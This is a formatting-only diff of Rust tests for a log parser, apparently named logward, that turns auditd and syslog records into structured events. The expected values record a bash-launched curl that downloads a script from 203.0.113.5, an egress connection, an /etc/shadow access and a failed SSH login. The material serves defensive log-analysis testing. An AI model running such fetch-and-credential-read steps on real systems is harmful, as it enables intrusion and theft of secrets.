@@ -274,7 +274,8 @@ fn every_registered_format_parses_and_detects_its_examples() {
 /// Runs `parse` with `args` on testdata files and returns the events and stderr (checked
 /// against the expected file and for line accounting like `run_case`).
 fn run_case_err(name: &str, args: &[&str], files: &[&str]) -> (Vec<Value>, String) {
-    let out = logward().current_dir(root().join("testdata/parse")).arg("parse").args(args).args(files).output().unwrap();
+    let out =
+        logward().current_dir(root().join("testdata/parse")).arg("parse").args(args).args(files).output().unwrap();
     assert!(out.status.success(), "{name}: {}", String::from_utf8_lossy(&out.stderr));
     assert_matches_file(&out.stdout, &root().join(format!("testdata/parse/expected/{name}.ndjson")));
     let lines: u64 = files
@@ -298,7 +299,10 @@ fn audit_records_of_one_event_become_one_event() {
     assert_eq!(get(exec, "event.type")[0], "start");
     assert_eq!(get(exec, "user.name"), "alice", "UID= of the enriched record");
     assert_eq!(get(exec, "user.audit.name"), "alice");
-    assert_eq!(get(exec, "auditd.log.record_type"), &serde_json::json!(["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"]));
+    assert_eq!(
+        get(exec, "auditd.log.record_type"),
+        &serde_json::json!(["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"])
+    );
     assert_eq!(get(exec, "auditd.log.name"), &serde_json::json!(["/usr/bin/bash", "/lib64/ld-linux-x86-64.so.2"]));
     assert_eq!(get(exec, "file.path"), "/usr/bin/bash");
     // The user-space record between the next event's records is its own event, in order.
@@ -308,13 +312,23 @@ fn audit_records_of_one_event_become_one_event() {
     assert_eq!(get(&evs[1], "user.name"), "root");
     // Hex arguments decoded, a long argument joined from its pieces, the parent known.
     let curl = &evs[2];
-    assert_eq!(get(curl, "process.args"), &serde_json::json!(["curl", "-o", "/tmp/my file.sh", "http://203.0.113.5/x.sh"]));
+    assert_eq!(
+        get(curl, "process.args"),
+        &serde_json::json!(["curl", "-o", "/tmp/my file.sh", "http://203.0.113.5/x.sh"])
+    );
     assert_eq!(get(curl, "process.command_line"), "curl -o /tmp/my file.sh http://203.0.113.5/x.sh");
     assert_eq!(get(curl, "process.title"), "curl -o /tmp/my file.sh http://203.0.113.5/x.sh");
     assert_eq!(get(curl, "process.parent.executable"), "/usr/bin/bash");
-    assert_eq!(get(curl, "auditd.log.a3"), &serde_json::json!(["0", "http://203.0.113.5/x.sh"]), "SYSCALL a3 and the joined argument");
+    assert_eq!(
+        get(curl, "auditd.log.a3"),
+        &serde_json::json!(["0", "http://203.0.113.5/x.sh"]),
+        "SYSCALL a3 and the joined argument"
+    );
     // saddr → destination; a relative path joined with the working directory.
-    assert_eq!((get(&evs[3], "destination.ip"), get(&evs[3], "destination.port")), (&"203.0.113.5".into(), &443.into()));
+    assert_eq!(
+        (get(&evs[3], "destination.ip"), get(&evs[3], "destination.port")),
+        (&"203.0.113.5".into(), &443.into())
+    );
     assert_eq!(get(&evs[3], "event.action"), "connected-to");
     assert_eq!(get(&evs[3], "network.direction"), "egress");
     assert_eq!(get(&evs[4], "file.path"), "/etc/shadow");
@@ -353,10 +367,26 @@ fn journald_entries_read_like_their_syslog_lines() {
     // The same sshd line from auth.log gives the same fields.
     let dir = tempfile::tempdir().unwrap();
     let auth = dir.path().join("auth.log");
-    std::fs::write(&auth, "Nov 14 22:13:20 bastion sshd[4242]: Failed password for invalid user admin from 203.0.113.7 port 52413 ssh2\n").unwrap();
+    std::fs::write(
+        &auth,
+        "Nov 14 22:13:20 bastion sshd[4242]: Failed password for invalid user admin from 203.0.113.7 port 52413 ssh2\n",
+    )
+    .unwrap();
     let out = logward().args(["parse", "--year", "2023"]).arg(&auth).output().unwrap();
     let syslog = &ndjson(&out.stdout)[0];
-    for f in ["event.action", "event.outcome", "event.category", "user.name", "source.ip", "source.port", "process.name", "process.pid", "host.name", "event.dataset", "logward.template.pattern"] {
+    for f in [
+        "event.action",
+        "event.outcome",
+        "event.category",
+        "user.name",
+        "source.ip",
+        "source.port",
+        "process.name",
+        "process.pid",
+        "host.name",
+        "event.dataset",
+        "logward.template.pattern",
+    ] {
         assert_eq!(get(syslog, f), get(&evs[0], f), "{f}");
     }
 }
@@ -433,7 +463,10 @@ fn logs_nobody_described() {
         assert_eq!(get(&evs[0], "@timestamp"), first, "{file}");
         assert!(evs.iter().all(|e| e.get("@timestamp").is_some()), "{file}");
         let err = String::from_utf8_lossy(&out.stderr);
-        assert!(err.contains(&format!("{file}: no known format in its first lines, read as plain text; times")), "{err}");
+        assert!(
+            err.contains(&format!("{file}: no known format in its first lines, read as plain text; times")),
+            "{err}"
+        );
         assert!(err.contains("--line-format"), "{err}");
     }
 }
@@ -469,6 +502,10 @@ fn stderr_names_formats_warns_on_plain_text_and_notes_the_year_once() {
     assert_eq!(ndjson(&out.stdout).len(), 3);
     assert!(err.contains("c.log:4: rejected: not a syslog line"), "{err}");
     assert!(err.contains("rejected 5"), "{err}");
-    let out = logward().args(["parse", "--format", "syslog", "--strict", "--year", "2020"]).arg(&mostly_text).output().unwrap();
+    let out = logward()
+        .args(["parse", "--format", "syslog", "--strict", "--year", "2020"])
+        .arg(&mostly_text)
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(1));
 }
